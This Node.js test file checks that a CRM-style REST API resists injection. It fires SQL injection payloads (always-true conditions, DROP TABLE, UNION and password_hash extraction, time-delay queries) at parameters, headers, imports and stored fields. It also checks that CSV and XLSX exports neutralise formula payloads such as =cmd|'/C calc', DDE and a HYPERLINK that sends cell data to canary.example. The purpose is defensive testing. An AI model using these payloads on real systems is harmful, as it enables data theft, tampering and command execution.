// S10 S12 S15: what is typed stays text. Into every parameter, header, body, plan and
// stored field; out again by every list, order, search, export and import result.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { after, before, test } from 'node:test';
import { each, made, person, raw, rightsOf, sleep, sql, unchanged } from '../lib/attack.mjs';
import { engine, long, start } from '../lib/server.mjs';

let server, admin, customer, entities, routes;
const sqlWords = /syntax error|near "|SQLITE|sqlite3|PG::|pg_|psql|SELECT |FROM "|WHERE |unterminated|relation "|duplicate key value|no such (table|column)|operator does not exist|invalid input syntax|libpq/;
const sleeper = engine === 'postgres' ? "(SELECT pg_sleep(3))" : '(SELECT count(*) FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<30000000) SELECT x FROM c))';

before(async () => {
  server = await start();
  admin = server.api;
  customer = await made(admin, 'customer', { name: '张伟', city: '杭州', note: 'quiet', number: 'S-1' });
  await made(admin, 'customer', { name: 'Ada', city: 'London', number: 'S-2' });
  await made(admin, 'order', { customer_id: customer.id, number: 'O-1', total: '1.00' });
  entities = (await admin('GET', '/api/v1/meta')).body.entities;
  const api = (await admin('GET', '/api/v1/openapi.json')).body;
  routes = Object.entries(api.paths).flatMap(([path, item]) => ['post', 'put', 'patch', 'delete'].filter((m) => m in item).map((m) => ({ method: m.toUpperCase(), path })));
});
after(() => server?.close());

const poison = ["'", '"', '\\', "\\'", "' OR '1'='1", "1' OR 1=1--", "'; DROP TABLE customer;--", '1/**/OR/**/1=1', `'||${sleeper}||'`, `1;${sleeper}`, `1) OR ${sleeper}>0--`, "'||(SELECT password_hash FROM \"user\")||'", '＇ OR １＝１', '’ OR ’1’=’1', 'ʼ', ')', '((', 'name)', "x') UNION SELECT 1--", '$1', '?1', ':a', '@a', '*', '%', '_', '{}', '[]', "{'a':1}", 'a->b', "a->>'b'", 'name::int', 'name::regclass', 'sum(name)', 'count()', 'id.asc,(SELECT 1)', 'null', 'NaN', '1e309', '-0', '0x1', '9'.repeat(40), '\u202e', '\ufeff'];

/** Same whatever was typed: no number of the request, not the text itself. */
const plain = (answer, typed) => answer.text.replace(/"request_id":"\w+"/, '').split(JSON.stringify(typed).slice(1, -1)).join('').split(typed).join('');

test('S10 every parameter of a list: no SQL in answers, no more rows, no time', async () => {
  await unchanged(server.data, async () => {
    for (const p of poison) {
      const e = encodeURIComponent(p);
      await each([`customer?select=${e}`, `customer?select=name,orders(${e})`, `customer?select=x:${e}`, `customer?select=name::${e}`, `customer?select=orders_count.${e}`, `customer?order=${e}`, `customer?order=name.${e}`, `customer?order=customer(${e})`, `customer?limit=${e}`, `customer?offset=${e}`, `customer?cursor=${e}`, `customer?${e}=eq.1`, `customer?name=${e}`, `customer?name=${e}.x`, `customer?name=not.${e}.x`, `customer?name=eq(${e}).x`, `customer?or=(${e})`, `customer?or=(name.eq.${e})`, `customer?and=(name.in.(${e}))`, `customer?not.or=(${e}.eq.1)`, `customer?orders.${e}=eq.1`, `customer?orders=${e}`, `customer?q=${e}`, `customer?columns=${e}`, `customer?on_conflict=${e}`, `customer/${e}`, `customer/${e}/changes`, `customer/${customer.id}/changes?before=${e}&limit=${e}`, `customer/export?format=${e}`, `customer/export?format=csv&encoding=${e}`, `customer/export?format=csv&select=${e}`, `customer/export?format=csv&order=${e}`, `${e}`, `${e}/export`, `search?q=${e}`, `search?q=a&limit=${e}`, `search?q=a&entity=${e}`, `audit?entity=${e}`, `audit?actor_id=${e}`, `audit?from=${e}&to=${e}`, `audit?before=${e}`, `audit?action=${e}`, `events?after=${e}`, `user/${e}/rights`, `import/${e}/preview`, `attachment/${e}/content`], async (path) => {
        if (path.startsWith('events') && /^[-\d]*$/.test(p)) return; // a number begins a stream
        const started = performance.now();
        const answer = await admin('GET', `/api/v1/${path}`);
        assert.ok(answer.status < 500, `${path}: ${answer.status} ${answer.text.slice(0, 300)}`);
        if (answer.status >= 400 && !sqlWords.test(p)) assert.ok(!sqlWords.test(plain(answer, p)), `${path} shows SQL: ${answer.text.slice(0, 300)}`);
        assert.ok(!answer.text.includes('argon2'), path);
        assert.ok(performance.now() - started < 2500, `${path} took ${Math.round(performance.now() - started)} ms`);
      });
    }
  }, 'a parameter');
});

test('S10 every field and operator: a condition that is always true in SQL finds nothing here', async () => {
  const operators = ['eq', 'neq', 'gt', 'gte', 'lt', 'lte', 'like', 'ilike', 'match', 'imatch', 'in', 'is', 'isdistinct', 'fts', 'plfts', 'phfts', 'wfts', 'cs', 'cd', 'ov', 'eq(any)', 'like(all)', 'not.eq'];
  for (const e of entities.filter((x) => ['customer', 'order', 'user'].includes(x.name)))
    for (const f of e.fields)
      await each(operators, async (o) => {
        const [yes, no] = ["x' OR '1'='1", "x' OR '1'='2"].map((v) => admin('GET', `/api/v1/${e.name}?select=id&${f.name}=${o}.${encodeURIComponent(o === 'in' ? `("${v}")` : o.includes('(') || ['cs', 'cd', 'ov'].includes(o) ? `{"${v}"}` : v)}`));
        const [a, b] = [await yes, await no];
        assert.ok(a.status < 500, `${e.name}.${f.name} ${o}: ${a.status} ${a.text.slice(0, 200)}`);
        assert.equal(a.status, b.status);
        assert.equal(plain(a, "x' OR '1'='1"), plain(b, "x' OR '1'='2"), `${e.name}.${f.name} ${o}: true and false are told apart`);
      });
});

test('S10 a statement that waits waits nowhere: medians of the pair are alike', async () => {
  const median = (list) => list.sort((x, y) => x - y)[list.length >> 1];
  for (const path of ['customer?name=eq.', 'customer?order=', 'customer?id=eq.', 'search?q=', 'customer?or=', 'audit?entity=', 'customer?limit=']) {
    const times = { quick: [], slow: [] };
    for (let i = 0; i < 5; i++)
      for (const [name, v] of [['quick', "1' || (SELECT 1) || '"], ['slow', `1' || ${sleeper} || '`]]) {
        const started = performance.now();
        await admin('GET', `/api/v1/${path}${encodeURIComponent(v)}`);
        times[name].push(performance.now() - started);
      }
    assert.ok(median(times.slow) < median(times.quick) + 250, `${path}: ${median(times.quick).toFixed(1)} and ${median(times.slow).toFixed(1)} ms`);
  }
});

test('S10 bytes that are no text, in paths and headers', async () => {
  await unchanged(server.data, async () => {
    for (const bytes of ['%00', '%c0%27', '%c0%af', '%e0%80%a7', '%f0%80%80%a7', '%ff', '%ed%a0%80', '%c2', '%27%00--', '%', '%2', '%zz', '%u0027'])
      for (const path of [`/api/v1/customer?name=eq.${bytes}`, `/api/v1/customer?order=${bytes}`, `/api/v1/${bytes}`, `/api/v1/customer/${bytes}`, `/api/v1/search?q=${bytes}`]) {
        const answer = await raw(server.url, `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer ${server.token}\r\n\r\n`, { silence: 3000 });
        assert.ok(answer.status > 0 && answer.status < 500, `${path}: ${answer.status} ${answer.text.slice(0, 200)}`);
        assert.ok(!sqlWords.test(answer.text.split('\r\n\r\n')[1] ?? ''), `${path}: ${answer.text.slice(-300)}`);
      }
    for (const p of poison.filter((x) => /^[\x20-\x7e]+$/.test(x)))
      for (const name of ['Prefer', 'Range', 'If-None-Match', 'Accept', 'Accept-Language', 'User-Agent', 'Referer', 'X-Request-Id', 'X-Forwarded-For', 'Last-Event-ID', 'Accept-Profile', 'Range-Unit']) {
        const answer = await admin('GET', '/api/v1/customer?select=id&limit=1', undefined, { [name]: p });
        assert.ok(answer.status < 500, `${name}: ${p}: ${answer.status}`);
        if (answer.status >= 400) assert.ok(!sqlWords.test(plain(answer, p)), `${name}: ${p}: ${answer.text.slice(0, 200)}`);
      }
    for (const p of poison.filter((x) => /^[\x20-\x7e]+$/.test(x))) for (const name of ['If-Match', 'Prefer', 'Idempotency-Key', 'Content-Type']) {
      const answer = await admin('PATCH', `/api/v1/customer/${customer.id}`, '{"nonsense":1}', { 'Content-Type': 'application/json', [name]: p });
      assert.ok(answer.status >= 400 && answer.status < 500, `${name}: ${p}: ${answer.status}`);
    }
  }, 'bytes that are no text');
});

test('S10 second order: what was stored is text wherever it is used again', async () => {
  const kept = poison.filter((p) => p.trim() === p && !/[\u202e\ufeff]/.test(p));
  const ids = [];
  for (const [i, p] of kept.entries()) {
    const tag = await admin('POST', '/api/v1/tag', { name: `t${i}${p}`.slice(0, 40) }, { Prefer: 'return=representation' });
    assert.equal(tag.status, 201, `${p}: ${tag.text}`);
    const c = await made(admin, 'customer', { name: `n${p}`.slice(0, 110), note: p, city: `c${p}`.slice(0, 80), province: 'second', tags: [tag.body[0].id] });
    ids.push(c.id);
    assert.equal((await admin('GET', `/api/v1/customer/${c.id}`)).body.note, p);
    const view = await admin('POST', '/api/v1/saved_view', { name: `v${p}`.slice(0, 80), entity: 'customer', query: `name=eq.${p}` }, { Prefer: 'return=representation' });
    assert.equal(view.status, 201, view.text);
    // found by the value it has, by nothing else
    assert.deepEqual((await admin('GET', `/api/v1/customer?select=id&note=eq.${encodeURIComponent(p)}&province=eq.second`)).body.map((r) => r.id), [c.id], p);
  }
  for (const path of ['customer?order=sort_name&province=eq.second', 'customer?order=city.desc,name&province=eq.second', 'customer?select=city,count()&province=eq.second', 'customer?select=id,tags(name)&province=eq.second', 'search?q=DROP', 'search?q=OR', 'customer/export?format=csv&province=eq.second', 'customer/export?format=jsonl&province=eq.second', 'customer/export?format=vcard&province=eq.second', 'audit?limit=500'])
    assert.equal((await admin('GET', `/api/v1/${path}`)).status, 200, path);
  // pages by cursor go through stored values
  let seen = 0;
  for (let cursor = ''; ; ) {
    const page = await admin('GET', `/api/v1/customer?select=id&order=city&province=eq.second&limit=7${cursor}`);
    assert.equal(page.status, 200, page.text);
    seen += page.body.length;
    const next = page.headers.get('x-next-cursor');
    if (!next) break;
    cursor = `&cursor=${encodeURIComponent(next)}`;
  }
  assert.equal(seen, kept.length);
  for (const id of ids) assert.equal((await admin('DELETE', `/api/v1/customer/${id}`)).status, 204);
  for (const id of ids.slice(0, 10)) assert.ok((await admin('POST', `/api/v1/customer/${id}/restore`, {})).status < 300);
  assert.equal(sql(server.data, 'SELECT count(*) FROM "customer";')[0], '12');
});

test('S10 plans and files of imports: names, keys, encodings and headers are no SQL', async () => {
  for (const [i, p] of poison.entries()) {
    const up = await admin('POST', `/api/v1/import?name=${encodeURIComponent(`${p}.csv`)}`, new TextEncoder().encode(`"${p.replaceAll('"', '""')}",name\n"${p.replaceAll('"', '""')}",x\n`), { 'Content-Type': 'text/csv' });
    assert.ok(up.status < 500, `${p}: ${up.status} ${up.text}`);
    if (up.status >= 400) continue;
    const id = up.body.id;
    const plans = [{ records: [{ entity: p, mode: 'create', fields: { name: 'name' } }] }, { records: [{ entity: 'customer', mode: p, fields: { name: 'name' } }] }, { records: [{ entity: 'customer', mode: 'upsert', key: [p], fields: { name: 'name' } }] }, { records: [{ entity: 'customer', mode: 'create', fields: { [p]: 'name' } }] }, { records: [{ entity: 'customer', mode: 'create', fields: { name: p } }] }, { preset: p }, { mapping: p }, { encoding: p, mapping: [] }, { records: [{ entity: 'customer', mode: 'create', fields: { name: 'name' }, when: { column: p, equals: p } }] }];
    for (const body of plans.filter((_, nth) => long || (nth + i) % 3 === 0)) { // each place has each third of them
      const plan = await admin('PUT', `/api/v1/import/${id}/plan`, body);
      assert.ok(plan.status < 500, `${JSON.stringify(body)}: ${plan.status} ${plan.text}`);
      if (plan.status >= 400) assert.ok(!sqlWords.test(plain(plan, p)), plan.text);
    }
    for (const query of [`encoding=${encodeURIComponent(p)}`, `sheet=${encodeURIComponent(p)}`, `delimiter=${encodeURIComponent(p)}`, `entity=${encodeURIComponent(p)}`]) assert.ok((await admin('GET', `/api/v1/import/${id}/preview?${query}`)).status < 500, query);
    const plan = await admin('PUT', `/api/v1/import/${id}/plan`, { records: [{ entity: 'customer', mode: 'upsert', key: ['note'], fields: { name: 'name', note: 1 } }] });
    if (plan.status < 300) {
      const check = await admin('POST', `/api/v1/import/${id}/check`, {});
      assert.equal(check.status, 200, check.text);
    }
  }
  assert.equal((await admin('GET', '/healthz')).status, 200);
});

test('S12 every field refuses what is of another type, and says which field it is', async () => {
  const wrong = { object: '{"a":1}', array: '[1]', 'empty object': '{}', huge: '1e999', fraction: '12.5', big: '92233720368547758080', truth: 'true', 'minus zero': '-0', 'a list of lists': '[[]]', 'NaN text': '"NaN"', infinity: '"Infinity"', 'text with e': '"1e5"' };
  const texts = new Set(['NaN text', 'infinity', 'text with e']), numbers = new Set(['int', 'decimal', 'money', 'real']);
  const ids = { customer: customer.id, order: (await admin('GET', '/api/v1/order?select=id&limit=1')).body[0].id };
  for (const [name, body] of [['address', { customer_id: ids.customer, street: 'x' }], ['identifier', { customer_id: ids.customer, kind: 'other', value: 'x' }], ['interaction', { customer_id: ids.customer, subject: 'x' }], ['product', { name: 'x', sku: 'x' }], ['tag', { name: 'x' }], ['channel', { name: 'x', code: 'x' }], ['category', { name: 'x' }], ['payment', { order_id: ids.order, amount: '1.00' }], ['order_line', { order_id: ids.order, name: 'x' }], ['shipment', { order_id: ids.order }], ['saved_view', { name: 'x', entity: 'customer' }]]) {
    if (name === 'identifier') body.kind = entities.find((e) => e.name === name).fields.find((f) => f.name === 'kind').options[0].value;
    ids[name] = (await made(admin, name, body)).id;
  }
  let asked = 0;
  await unchanged(server.data, async () => {
    for (const e of entities.filter((x) => ids[x.name]))
      for (const f of e.fields.filter((x) => !x.readonly && x.name !== 'id'))
        await each(Object.entries(wrong), async ([what, json]) => {
          if (f.type === 'json' || (['text', 'note'].includes(f.type) && texts.has(what))) return;
          if ((f.type === 'bool' && what === 'truth') || (numbers.has(f.type) && ['minus zero', 'fraction', 'text with e'].includes(what)) || (['code', 'phone'].includes(f.type) && texts.has(what))) return;
          const answer = await admin('PATCH', `/api/v1/${e.name}/${ids[e.name]}`, `{${JSON.stringify(f.name)}:${json}}`, { 'Content-Type': 'application/json' });
          assert.ok(answer.status >= 400 && answer.status < 500, `${e.name}.${f.name} takes ${what}: ${answer.status} ${answer.text.slice(0, 200)}`);
          // what is no JSON number at all is refused before fields are looked at
          if (what !== 'huge' && what !== 'big') assert.ok(answer.body.errors?.some((x) => x.field === f.name), `${e.name}.${f.name} ${what}: ${answer.text.slice(0, 300)}`);
          asked++;
        });
  }, 'a value of another type');
  assert.ok(asked > 800, `${asked}`);
});

test('S12 bodies of wrong shape, depth and size at every route that takes one', async () => {
  const deep = (n, open, close) => open.repeat(n) + close.repeat(n);
  const bodies = ['', 'null', '5', '"x"', 'true', '[]', '[[]]', '[null]', '{', '{"a":', '{"name":"x"}}', `{"${'k'.repeat(1 << 20)}":1}`, deep(10000, '[', ']'), deep(10000, '{"a":', '}'), deep(33, '[', ']'), `[${'{},'.repeat(20000)}{}]`, '{"name":"\\ud800"}', '{"name":"\\u0000"}', '{"a":1,"a":2}', '\ufeff{}', '{"name":NaN}', "{'name':'x'}", '{"name":"x",}', '{"name":1e999}', '{"email":{"$ne":null},"password":{"$ne":null}}', '{"email":["a"],"password":["b"]}', '{"code":{"a":1}}', '{"to":[1]}', '{"password":1}'];
  await unchanged(server.data, async () => {
    for (const r of routes.filter((x) => x.method !== 'DELETE' && !/restore|cancel|undo|resume|start|check|scan|outbox\/retry|disable|enable|unlock|revoke|totp$/.test(x.path)))
      await each(bodies, async (body, nth) => {
        if (!long && body.length > 1000 && (routes.indexOf(r) + nth) % 8 !== 0) return; // all are read by one reader: each eighth route has the big ones
        if (/file$|import$/.test(r.path)) return; // take any bytes: tests of uploads
        const path = r.path.replace(/\{\w+\}/g, '4611686018427387904') + (r.method === 'PATCH' && !r.path.includes('{') ? '?id=eq.0' : '');
        if (body === '[]' && r.method === 'POST') return; // nothing to create is no fault
        const answer = await admin(r.method, path, body, { 'Content-Type': 'application/json' }).catch((error) => {
          // too much: the server answers, and closes before all of it was sent
          if (body.length < 32768) throw error;
          return { status: 413, text: '' };
        });
        assert.ok(answer.status < 500 && answer.status > 0, `${r.method} ${r.path} ${body.slice(0, 40)}: ${answer.status} ${answer.text.slice(0, 200)}`);
        if (r.method === 'POST') assert.ok(answer.status >= 400, `${r.method} ${r.path} ${body.slice(0, 40)}: ${answer.status}`);
      });
  }, 'a body of wrong shape');
  // refused for what they are, not for what they happen to lack besides
  const nested = (n) => `{"email":"a@example.com","password":"x","code":${deep(n, '[', ']')}}`;
  const malformed = [['session', nested(32)], ['session', nested(2040)], ['customer', deep(10000, '{"name":', '}')], ['session', '{"email":"a@example.com","email":"b@example.com","password":"x"}'], ['customer', '{"name":"once","name":"twice"}'], ['customer', '[{"name":"a"},{"name":"b","name":"c"}]'], ['customer', '{"name":"a\\u0000b"}'], ['tag', '{"name":"x",}'], ['tag', '{"name":"\\ud800"}']];
  await unchanged(server.data, async () => {
    for (const [path, body] of malformed) {
      const answer = await admin('POST', `/api/v1/${path}`, body, { 'Content-Type': 'application/json' });
      assert.deepEqual([answer.status, answer.body.code], [400, 'PGRST102'], `${path} ${body.slice(0, 60)}: ${answer.text}`);
    }
  }, 'a body that is no JSON');
  assert.equal((await admin('POST', '/api/v1/session', nested(31), { 'Content-Type': 'application/json' })).body.errors[0].key, 'wrong_type', '32 deep is read');
  assert.equal((await admin('GET', '/healthz')).status, 200);
});

const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '=cmd|\'/C calc\'!A0', '=HYPERLINK("http://canary.example/?x="&A1,"x")', '+cmd|1', '-2+3+cmd|1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', "'=1+1", '"=1+1', ' =1+1', '\u3000=1+1', '\u00a0=1+1', '\u200b=1+1', '=1,2', '=1;2', '="a"', '=\u4e2d', '+a', '-a', '@', '%0A-3+3', ';=1', '=DDE("cmd";"/C calc";"x")'];
const inNotes = ['\t=1+1', '\r=1+1', '\n=1+1', 'a\n=1+1', '"\n=1', "'\t=1"];
const harmless = ['+8613800138000', '-12.50', '+1 (555) 010-9999', '-', '+', '100', '-1', '1-2', '3+4', '"', "'", "it's", '+86 138-0013-8000'];

/** Whether a spreadsheet would run this cell, with its quotes taken away. */
const runs = (cell) => /^[=@\t\r]/.test(cell) || /^[＝＋－＠]/.test(cell) || /^[\s"\u00a0\u3000\u200b\ufeff]+[=@+\-＝＋－＠\t\r]/.test(cell) || (/^[+-]/.test(cell) && !/^[+-][\d .,\-()/]*\d[\d .,\-()/]*$|^[+-]$/.test(cell));

function parseCsv(text, delimiter = ',') {
  const out = [[]];
  let cell = '', quoted = false;
  const s = text.replace(/^\ufeff/, '');
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') (cell += '"', i++);
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === delimiter) (out.at(-1).push(cell), (cell = ''));
    else if (c === '\n') (out.at(-1).push(cell.replace(/\r$/, '')), (cell = ''), out.push([]));
    else cell += c;
  }
  if (cell !== '' || out.at(-1).length) out.at(-1).push(cell);
  return out.filter((r) => r.length);
}

async function finished(id) {
  for (let i = 0; ; i++) {
    const run = (await admin('GET', `/api/v1/import_run/${id}`)).body;
    if (['done', 'failed', 'cancelled'].includes(run.state)) return run;
    assert.ok(i < 300, `the import stays ${run.state}`);
    await sleep(50);
  }
}

test('S15 no export holds a formula, and every text survives the way out and back', async () => {
  const texts = [...formulas, ...inNotes, ...harmless];
  const stored = new Map();
  for (const [i, text] of texts.entries()) {
    const c = await made(admin, 'customer', { number: `F-${String(i).padStart(3, '0')}`, name: formulas.includes(text) ? text : `f${i}`, note: text, province: 'formulas', phone: '+8613800138000', website: 'https://example.com/=1' });
    stored.set(c.number, (await admin('GET', `/api/v1/customer/${c.id}`)).body);
  }
  // blanks that nobody sees are taken from the ends, line ends are made one kind; nothing else is touched
  const bare = (t) => t.replace(/\r\n?/g, '\n').replace(/^[\s\u200b]+|[\s\u200b]+$/g, '').replace(/[\u3000\u00a0\t]/g, ' ');
  for (const [i, r] of [...stored.values()].entries()) assert.equal(bare(r.note ?? ''), bare(texts[i]));
  const query = 'province=eq.formulas&order=number&select=number%2Cname%2Cnote%2Cphone%2Cprovince&names=1';
  for (const [format, delimiter] of [['csv', ','], ['tsv', '\t'], ['csv&delimiter=%3B', ';'], ['csv&encoding=GB18030', ',']]) {
    const answer = await fetch(`${server.url}/api/v1/customer/export?format=${format}&${query}`, { headers: { Authorization: `Bearer ${server.token}` } });
    assert.equal(answer.status, 200);
    const bytes = new Uint8Array(await answer.arrayBuffer());
    const lines = parseCsv(new TextDecoder(format.includes('GB') ? 'gb18030' : 'utf-8').decode(bytes), delimiter);
    assert.equal(lines.length, texts.length + 1, format);
    for (const line of lines.slice(1)) {
      assert.equal(line.length, 5, `${format}: ${JSON.stringify(line)}`);
      for (const cell of line) assert.ok(!runs(cell), `${format}: ${JSON.stringify(cell)} would run`);
      assert.equal(line[3], '+8613800138000', 'a telephone number is no formula');
    }
    for (const text of ['+8613800138000', '-12.50', '+1 (555) 010-9999']) assert.ok(lines.some((l) => l[2] === text), `${format}: ${text} is written as it is`);
    if (format.includes('GB')) continue;
    // back in, over the same records: nothing differs
    const up = await admin('POST', `/api/v1/import?name=back.${format.slice(0, 3)}`, bytes, { 'Content-Type': 'text/csv' });
    assert.equal(up.status, 201, up.text);
    const plan = await admin('PUT', `/api/v1/import/${up.body.id}/plan`, { records: [{ entity: 'customer', mode: 'update', key: ['number'], fields: { number: 'number', name: 'name', note: 'note', phone: 'phone' } }] });
    assert.equal(plan.status, 200, plan.text);
    await admin('POST', `/api/v1/import/${up.body.id}/start`, {});
    const run = await finished(up.body.id);
    assert.deepEqual([run.state, run.failed], ['done', 0]);
    for (const [number, was] of stored) {
      const now = (await admin('GET', `/api/v1/customer?number=eq.${number}`)).body[0];
      for (const f of ['name', 'note', 'phone', 'number']) {
        // line ends and blanks at the ends of a cell are the file format's, not the text's
        const norm = (s) => s?.replace(/\r\n?/g, '\n').trim();
        assert.equal(norm(now[f]), norm(was[f]), `${format} ${number}.${f}`);
      }
    }
  }
  const answer = await admin('GET', '/api/v1/customer?province=eq.formulas&order=number&select=number,name,note,phone', undefined, { Accept: 'text/csv' });
  for (const line of parseCsv(answer.text).slice(1)) for (const cell of line) assert.ok(!runs(cell), `text/csv: ${JSON.stringify(cell)} would run`);
  const twice = await admin('POST', '/api/v1/customer', answer.text.replaceAll('F-', 'G-'), { 'Content-Type': 'text/csv', Prefer: 'return=representation' });
  assert.equal(twice.status, 201, twice.text.slice(0, 300));
  for (const r of twice.body) assert.equal(r.note?.replace(/\r\n?/g, '\n'), stored.get(r.number.replace('G-', 'F-')).note?.replace(/\r\n?/g, '\n'), r.number);
  const jsonl = await admin('GET', `/api/v1/customer/export?format=jsonl&${query}`);
  for (const line of jsonl.text.trim().split('\n').map((l) => JSON.parse(l))) assert.equal(line.note, stored.get(line.number).note, line.number);
});

test('S15 a workbook holds texts and numbers only, and comes back as it was', async () => {
  const answer = await fetch(`${server.url}/api/v1/customer/export?format=xlsx&province=eq.formulas&order=number&select=number%2Cname%2Cnote%2Cphone&names=1`, { headers: { Authorization: `Bearer ${server.token}` } });
  const bytes = Buffer.from(await answer.arrayBuffer());
  const script = 'import sys,zipfile,io,re\nz=zipfile.ZipFile(io.BytesIO(sys.stdin.buffer.read()))\nx="".join(z.read(n).decode() for n in z.namelist() if n.endswith(".xml"))\nprint(len(re.findall(r"<f[ >]",x)),len(re.findall("<hyperlink|externalLink|ddeLink|oleObject",x)),"HYPERLINK" in x)\nprint("\\n".join(n for n in z.namelist() if "vba" in n.lower() or "external" in n.lower()))';
  const seen = spawnSync('python3', ['-c', script], { input: bytes, encoding: 'utf8' });
  assert.equal(seen.status, 0, seen.stderr);
  // the text of the formula is there, once, as text; no formula and no link is
  const [formulaCells, links, text] = seen.stdout.trim().split('\n')[0].split(' ');
  assert.deepEqual([formulaCells, links, text, seen.stdout.trim().split('\n').length], ['0', '0', 'True', 1], seen.stdout);
  const up = await admin('POST', '/api/v1/import?name=back.xlsx', new Uint8Array(bytes), { 'Content-Type': 'application/octet-stream' });
  const preview = (await admin('GET', `/api/v1/import/${up.body.id}/preview`)).body;
  const rows = (await admin('GET', '/api/v1/customer?province=eq.formulas&order=number&select=name,note,phone&limit=30')).body;
  for (const [i, r] of rows.entries()) assert.deepEqual(preview.rows[i].slice(1).map((c) => c.trim()), [r.name, r.note, r.phone].map((c) => c.trim()), `row ${i}`);
});

test('S15 what an import could not take is handed back without formulas', async () => {
  const quoted = (t) => `"${t.replaceAll('"', '""')}"`;
  const lines = [...formulas, ...inNotes].map((t) => `${quoted(t)},${quoted(t)},not a mail`).join('\n');
  const up = await admin('POST', '/api/v1/import?name=bad.csv', new TextEncoder().encode(`name,note,email\n${lines}\n`), { 'Content-Type': 'text/csv' });
  const plan = await admin('PUT', `/api/v1/import/${up.body.id}/plan`, { records: [{ entity: 'customer', mode: 'create', fields: { name: 'name', note: 'note', email: 'email' } }] });
  assert.equal(plan.status, 200, plan.text);
  await admin('POST', `/api/v1/import/${up.body.id}/start`, {});
  assert.equal((await finished(up.body.id)).failed, formulas.length + inNotes.length);
  const result = await admin('GET', `/api/v1/import/${up.body.id}/result?format=csv`);
  const cells = parseCsv(result.text).slice(1);
  assert.equal(cells.length, formulas.length + inNotes.length);
  for (const line of cells) for (const cell of line) assert.ok(!runs(cell), `${JSON.stringify(cell)} would run`);
  const limited = await person(server, 'noexport', rightsOf('all', { customer: { ...rightsOf('all')['*'], export: 'none' } }));
  await unchanged(server.data, async () => {
    for (const format of ['csv', 'tsv', 'xlsx', 'jsonl', 'vcard']) assert.equal((await limited.api('GET', `/api/v1/customer/export?format=${format}`)).status, 403, format);
  });
});
